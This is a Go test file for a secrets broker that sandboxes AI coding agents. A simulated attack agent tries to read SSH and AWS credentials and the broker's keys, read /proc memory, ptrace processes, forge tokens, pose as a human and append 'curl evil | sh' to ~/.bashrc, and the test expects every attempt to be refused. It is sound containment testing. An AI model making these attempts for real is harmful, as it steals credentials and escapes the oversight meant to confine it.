@@ -1,0 +1,382 @@
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/llm-secrets/llms/internal/sandbox"
+)
+
+// The attack agent is this test binary under the name "attackagent"
+// (testscript.Main dispatches on it): `llms agent` starts it in the
+// sandbox, and it tries every attack, printing one line per attempt:
+//
+//	ATTEMPT <name> <allowed|refused> <detail>
+//
+// It never prints what it read: a detail is an errno, an exit status or a
+// verdict.
+const attackAgentName = "attackagent"
+
+// Where the attack agent finds its targets (credential-looking names would
+// be scrubbed from its environment, so these are plain).
+const (
+	envAttackStore = "ATTACK_STORE_DIR"
+	envAttackHome  = "ATTACK_HOME_DIR"
+	envAttackLLMS  = "ATTACK_LLMS_BIN"
+	envAttackWork  = "ATTACK_WORK_DIR"
+	// envAttackPhase "list-peek": the second session, whose token names no
+	// program (list and peek start none, so a token pinned to programs
+	// cannot list or peek), makes only the allowed list and peek.
+	envAttackPhase = "ATTACK_PHASE"
+)
+
+func attackAgent() int {
+	store, home, llms, work := os.Getenv(envAttackStore), os.Getenv(envAttackHome), os.Getenv(envAttackLLMS), os.Getenv(envAttackWork)
+	out := bufio.NewWriter(os.Stdout)
+	defer out.Flush()
+	report := func(name string, allowed bool, detail string) {
+		verdict := "refused"
+		if allowed {
+			verdict = "allowed"
+		}
+		fmt.Fprintf(out, "ATTEMPT %s %s %s\n", name, verdict, strings.Join(strings.Fields(detail), " "))
+	}
+	errDetail := func(err error) string {
+		var errno syscall.Errno
+		if errors.As(err, &errno) {
+			return "errno " + strconv.Itoa(int(errno)) + " (" + errno.Error() + ")"
+		}
+		return "error"
+	}
+	readFile := func(name, path string) {
+		_, err := os.ReadFile(path)
+		report(name, err == nil, errDetail(err))
+	}
+	// llmsRun runs the CLI inside the sandbox; env entries are added.
+	llmsRun := func(stdin string, env []string, args ...string) (string, string, int) {
+		cmd := exec.Command(llms, args...)
+		cmd.Env = append(os.Environ(), env...)
+		cmd.Stdin = strings.NewReader(stdin)
+		var o, e bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &o, &e
+		err := cmd.Run()
+		code := 0
+		if ee, ok := err.(*exec.ExitError); ok {
+			code = ee.ExitCode()
+		} else if err != nil {
+			code = -1
+		}
+		return o.String(), e.String(), code
+	}
+	// firstLine is a short reason from an llms error (never holds a value).
+	firstLine := func(s string) string {
+		s, _, _ = strings.Cut(strings.TrimSpace(s), "\n")
+		if len(s) > 120 {
+			s = s[:120]
+		}
+		return s
+	}
+	cli := func(name string, stdin string, env []string, args ...string) {
+		_, e, code := llmsRun(stdin, env, args...)
+		report(name, code == 0, fmt.Sprintf("exit %d: %s", code, firstLine(e)))
+	}
+
+	if os.Getenv(envAttackPhase) == "list-peek" {
+		o, e, code := llmsRun("", nil, "list")
+		report("list", code == 0 && strings.TrimSpace(o) == "K", fmt.Sprintf("exit %d, lists %q %s", code, strings.Fields(o), firstLine(e)))
+		o, e, code = llmsRun("", nil, "peek", "K")
+		report("peek", code == 0 && strings.Contains(o, "K:") && strings.Contains(o, "fingerprint"), fmt.Sprintf("exit %d %s", code, firstLine(e)))
+		return 0
+	}
+
+	// The store, its keys and state, and the user's credentials.
+	readFile("read-identity.txt", filepath.Join(store, "identity.txt"))
+	readFile("read-secrets/K.age", filepath.Join(store, "secrets", "K.age"))
+	for _, sealed := range []string{"rootkeys.age", "session.age", "auditkey.age", "recipients.txt", "audit.jsonl"} {
+		readFile("read-"+sealed, filepath.Join(store, sealed))
+	}
+	_, err := os.ReadDir(store)
+	report("list-store-dir", err == nil, errDetail(err))
+	readFile("read-~/.ssh/id_ed25519", filepath.Join(home, ".ssh", "id_ed25519"))
+	readFile("read-~/.aws/credentials", filepath.Join(home, ".aws", "credentials"))
+	if age, err := exec.LookPath("age"); err == nil {
+		cmd := exec.Command(age, "-d", "-i", filepath.Join(store, "identity.txt"), filepath.Join(store, "secrets", "K.age"))
+		o, err := cmd.Output()
+		report("age-decrypt", err == nil && len(o) > 0, fmt.Sprintf("exit %d", cmd.ProcessState.ExitCode()))
+	} else {
+		report("age-decrypt", false, "age not installed")
+	}
+
+	// The human's commands, pointed at the real store.
+	real := []string{"LLM_SECRETS_DIR=" + store}
+	cli("llms-macaroon-mint", "", real, "macaroon", "mint", "--secret", "K", "--ttl", "5m")
+	cli("llms-session-start", "", real, "session-start", "--ttl", "1h")
+	cli("llms-revoke-all", "", real, "revoke-all")
+	cli("llms-set", "attacker-value\n", real, "set", "--stdin", "K")
+	// Its own store, and a token from it used against the real broker.
+	own := []string{"LLM_SECRETS_DIR=" + filepath.Join(work, "own-store"), "LLM_SECRETS_SOCKET="}
+	_, _, c1 := llmsRun("", own, "init")
+	_, _, c2 := llmsRun("", own, "session-start", "--ttl", "1h")
+	forged, _, c3 := llmsRun("", own, "macaroon", "mint", "--secret", "K", "--ttl", "5m")
+	report("own-store-made", c1 == 0 && c2 == 0 && c3 == 0, "init, session-start and mint in a store of its own")
+	cli("own-store-token-used", "", []string{"LLM_SECRETS_MACAROON=" + strings.TrimSpace(forged)},
+		"exec", "-i", "V=K", "--", "sh", "-c", `test -n "$V"`)
+
+	// Writes that would persist: into the store, into a start-up file.
+	err = os.WriteFile(filepath.Join(store, "secrets", "EVIL.age"), []byte("x"), 0o600)
+	report("write-store-dir", err == nil, errDetail(err))
+	f, err := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_WRONLY|os.O_APPEND, 0)
+	if err == nil {
+		_, err = f.WriteString("curl evil | sh\n")
+		f.Close()
+	}
+	report("append-~/.bashrc", err == nil, errDetail(err))
+
+	// The broker (our parent: the launcher serves it) and a child it
+	// started with the secret in its environment, sleeping.
+	broker := os.Getppid()
+	child, stop := startSleeper(llms)
+	defer stop()
+	for _, t := range []struct {
+		who string
+		pid int
+	}{{"broker", broker}, {"child", child}} {
+		if t.pid <= 0 {
+			report(t.who+"-found", false, "no such process")
+			continue
+		}
+		for _, f := range []string{"environ", "mem", "maps", "auxv"} {
+			readFile(fmt.Sprintf("read-/proc/%s/%s", t.who, f), fmt.Sprintf("/proc/%d/%s", t.pid, f))
+		}
+		err := unix.PtraceSeize(t.pid)
+		if err == nil {
+			unix.PtraceDetach(t.pid)
+		}
+		report("ptrace-"+t.who, err == nil, errDetail(err))
+		err = unix.Kill(t.pid, 0)
+		report("signal-"+t.who, err == nil, errDetail(err))
+	}
+
+	// The token, beyond what it was given; no token; a claimed identity.
+	cli("token-other-secret", "", nil, "exec", "-i", "V=OTHER", "--", "sh", "-c", `test -n "$V"`)
+	cli("token-other-program", "", nil, "exec", "-i", "V=K", "--", "env")
+	cli("no-token", "", []string{"LLM_SECRETS_MACAROON="}, "exec", "-i", "V=K", "--", "sh", "-c", `test -n "$V"`)
+	noTok := slices.DeleteFunc(os.Environ(), func(e string) bool { return strings.HasPrefix(e, "LLM_SECRETS_MACAROON=") })
+	cmd := exec.Command(llms, "exec", "-i", "V=K", "--", "sh", "-c", `test -n "$V"`)
+	cmd.Env = append(noTok, "AI_AGENT=human")
+	err = cmd.Run()
+	report("claim-AI_AGENT=human", err == nil, fmt.Sprintf("exit %d", cmd.ProcessState.ExitCode()))
+	cli("claim-AI_AGENT=human-other-secret", "", []string{"AI_AGENT=human"}, "exec", "-i", "V=OTHER", "--", "sh", "-c", `test -n "$V"`)
+
+	// What it may do: exec the allowed program with the allowed secret,
+	// its output redacted.
+	o, e, code := llmsRun("", nil, "exec", "-i", "V=K", "--", "sh", "-c", `printf 'value=%s\n' "$V"`)
+	report("exec-allowed", code == 0 && strings.Contains(o, "value=[REDACTED:K]"), fmt.Sprintf("exit %d, output redacted: %v %s", code, strings.Contains(o, "[REDACTED:K]"), firstLine(e)))
+	return 0
+}
+
+// startSleeper starts `llms exec -i V=K -- sleep 30` through the broker
+// and returns the sleeping child's pid (a child of the broker), and a
+// function that ends it.
+func startSleeper(llms string) (int, func()) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cmd := exec.CommandContext(ctx, llms, "exec", "-i", "V=K", "--", "sleep", "30")
+	if err := cmd.Start(); err != nil {
+		cancel()
+		return 0, func() {}
+	}
+	stop := func() { cancel(); cmd.Wait() }
+	deadline := time.Now().Add(5 * time.Second)
+	for time.Now().Before(deadline) {
+		if pid := findChild(os.Getppid(), "sleep"); pid > 0 {
+			return pid, stop
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	return 0, stop
+}
+
+// findChild finds a child of parent running comm, through /proc.
+func findChild(parent int, comm string) int {
+	entries, _ := os.ReadDir("/proc")
+	for _, e := range entries {
+		pid, err := strconv.Atoi(e.Name())
+		if err != nil {
+			continue
+		}
+		stat, err := os.ReadFile("/proc/" + e.Name() + "/stat")
+		if err != nil {
+			continue
+		}
+		s := string(stat)
+		open, close := strings.IndexByte(s, '('), strings.LastIndexByte(s, ')')
+		if open < 0 || close < open {
+			continue
+		}
+		fields := strings.Fields(s[close+1:])
+		if len(fields) > 1 && s[open+1:close] == comm && fields[1] == strconv.Itoa(parent) {
+			return pid
+		}
+	}
+	return 0
+}
+
+// expected is each attempt's required outcome.
+var expectedAttempts = map[string]string{
+	"read-identity.txt": "refused", "read-secrets/K.age": "refused",
+	"read-rootkeys.age": "refused", "read-session.age": "refused", "read-auditkey.age": "refused",
+	"read-recipients.txt": "refused", "read-audit.jsonl": "refused", "list-store-dir": "refused",
+	"read-~/.ssh/id_ed25519": "refused", "read-~/.aws/credentials": "refused", "age-decrypt": "refused",
+	"llms-macaroon-mint": "refused", "llms-session-start": "refused", "llms-revoke-all": "refused", "llms-set": "refused",
+	"own-store-made": "allowed", "own-store-token-used": "refused",
+	"write-store-dir": "refused", "append-~/.bashrc": "refused",
+	"read-/proc/broker/environ": "refused", "read-/proc/broker/mem": "refused", "read-/proc/broker/maps": "refused", "read-/proc/broker/auxv": "refused",
+	"ptrace-broker": "refused", "signal-broker": "refused",
+	"read-/proc/child/environ": "refused", "read-/proc/child/mem": "refused", "read-/proc/child/maps": "refused", "read-/proc/child/auxv": "refused",
+	"ptrace-child": "refused", "signal-child": "refused",
+	"token-other-secret": "refused", "token-other-program": "refused", "no-token": "refused",
+	"claim-AI_AGENT=human": "refused", "claim-AI_AGENT=human-other-secret": "refused",
+	"exec-allowed": "allowed", "list": "allowed", "peek": "allowed",
+}
+
+// expectedDetail: refusals that must come from the gate itself (exit 3,
+// access denied), not from something failing on the way.
+var expectedDetail = map[string]string{
+	"own-store-token-used": "exit 3", "token-other-secret": "exit 3", "token-other-program": "exit 3",
+	"no-token": "exit 3", "claim-AI_AGENT=human": "exit 3", "claim-AI_AGENT=human-other-secret": "exit 3",
+	"llms-macaroon-mint": "permission denied", "llms-session-start": "permission denied",
+	"llms-revoke-all": "permission denied", "llms-set": "permission denied",
+}
+
+// TestAgentModeAttacks launches `llms agent` around the attack agent and
+// checks every attempt's outcome, then that the store is intact, the token
+// died with the agent, and the canary appears nowhere.
+func TestAgentModeAttacks(t *testing.T) {
+	if sandbox.ABI() == 0 {
+		if os.Getenv("CI") != "" {
+			t.Fatal("CI needs a kernel with Landlock for agent mode")
+		}
+		t.Skip("no Landlock on this kernel")
+	}
+	if sandbox.ABI() < 6 {
+		t.Skip("signal scoping needs Landlock ABI 6")
+	}
+	raw := make([]byte, 12)
+	rand.Read(raw)
+	canary := "agent-canary-" + hex.EncodeToString(raw)
+	forms := []string{canary, base64.StdEncoding.EncodeToString([]byte(canary)), hex.EncodeToString([]byte(canary))}
+
+	root := t.TempDir()
+	home, store, work, tmp := filepath.Join(root, "home"), filepath.Join(root, "store"), filepath.Join(root, "proj"), filepath.Join(root, "tmp")
+	for _, d := range []string{filepath.Join(home, ".ssh"), filepath.Join(home, ".aws"), work, tmp} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte(canary+"-ssh\n"), 0o600)
+	os.WriteFile(filepath.Join(home, ".aws", "credentials"), []byte("aws_secret_access_key="+canary+"\n"), 0o600)
+	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o644)
+
+	bin := llmsBin(t)
+	agent := filepath.Join(filepath.Dir(bin), attackAgentName)
+	self, _ := os.Executable()
+	if err := os.Symlink(self, agent); err != nil {
+		t.Fatal(err)
+	}
+	env := []string{"LLM_SECRETS_DIR=" + store, "HOME=" + home, "XDG_CONFIG_HOME=" + filepath.Join(home, ".config"),
+		"PATH=" + filepath.Dir(bin) + ":" + os.Getenv("PATH"), "TMPDIR=" + tmp, "GORACE=atexit_sleep_ms=0",
+		"LLMS_TEST_PROCROOT=" + filepath.Join(root, ".proc"),
+		envAttackStore + "=" + store, envAttackHome + "=" + home, envAttackLLMS + "=" + bin, envAttackWork + "=" + work}
+	mustRun(t, bin, env, "", "init")
+	mustRun(t, bin, env, canary, "set", "--stdin", "K")
+	mustRun(t, bin, env, canary+"-other", "set", "--stdin", "OTHER")
+	mustRun(t, bin, env, "", "session-start", "--ttl", "1h")
+
+	// Two sessions: the attacks under a token for K and the programs sh and
+	// sleep; then list and peek under a token for K alone.
+	var out, errb bytes.Buffer
+	for _, session := range [][]string{
+		{"--cmd", "sh", "--cmd", "sleep"},
+		nil,
+	} {
+		args := append([]string{"agent", "--agent", "claude-code", "--secret", "K", "--ttl", "10m"}, session...)
+		cmd := exec.Command(bin, append(args, "--", agent)...)
+		cmd.Env, cmd.Dir = env, work
+		if session == nil {
+			cmd.Env = append(slices.Clone(env), envAttackPhase+"=list-peek")
+		}
+		cmd.Stdout, cmd.Stderr = &out, &errb
+		start := time.Now()
+		if err := cmd.Run(); err != nil {
+			t.Fatalf("llms %v: %v\nstderr: %s", args, err, errb.String())
+		}
+		t.Logf("llms %s -- attackagent: %v", strings.Join(args, " "), time.Since(start).Round(time.Millisecond))
+	}
+
+	seen := map[string]bool{}
+	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
+		f := strings.SplitN(line, " ", 4)
+		if len(f) < 3 || f[0] != "ATTEMPT" {
+			t.Errorf("unexpected agent output line %q", line)
+			continue
+		}
+		name, got := f[1], f[2]
+		detail := ""
+		if len(f) == 4 {
+			detail = f[3]
+		}
+		want, known := expectedAttempts[name]
+		mark := "ok  "
+		if !known || got != want || !strings.Contains(detail, expectedDetail[name]) {
+			mark = "FAIL"
+			t.Errorf("%s: %s (%s), want %s %s", name, got, detail, want, expectedDetail[name])
+		}
+		seen[name] = true
+		t.Logf("%s %-36s %-8s %s", mark, name, got, detail)
+	}
+	for name := range expectedAttempts {
+		if !seen[name] {
+			t.Errorf("attempt %s was not made", name)
+		}
+	}
+
+	// The store is as it was: the values, the session; no planted file.
+	if _, err := os.Stat(filepath.Join(store, "secrets", "EVIL.age")); err == nil {
+		t.Errorf("a file was planted in the store")
+	}
+	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# rc\n" {
+		t.Errorf("~/.bashrc changed")
+	}
+	check := mustRun(t, bin, env, "", "exec", "-i", "V=K", "--", "sh", "-c", `test "$V" = "`+canary+`" && echo same`)
+	if strings.TrimSpace(check) != "same" {
+		t.Errorf("the value of K changed")
+	}
+	mustRun(t, bin, env, "", "session-info")
+	// The token died with the agent: the audit shows it revoked.
+	audit := mustRun(t, bin, env, "", "audit")
+	if n := strings.Count(audit, "agent-end"); n != 2 || strings.Count(audit, "revoke ") < 2 {
+		t.Errorf("the agents' tokens were not revoked at exit:\n%s", audit)
+	}
+	for _, form := range forms {
+		if strings.Contains(out.String(), form) || strings.Contains(errb.String(), form) || strings.Contains(audit, form) {
+			t.Errorf("the canary (or an encoding of it) appears in the output")
+		}
+	}
+}
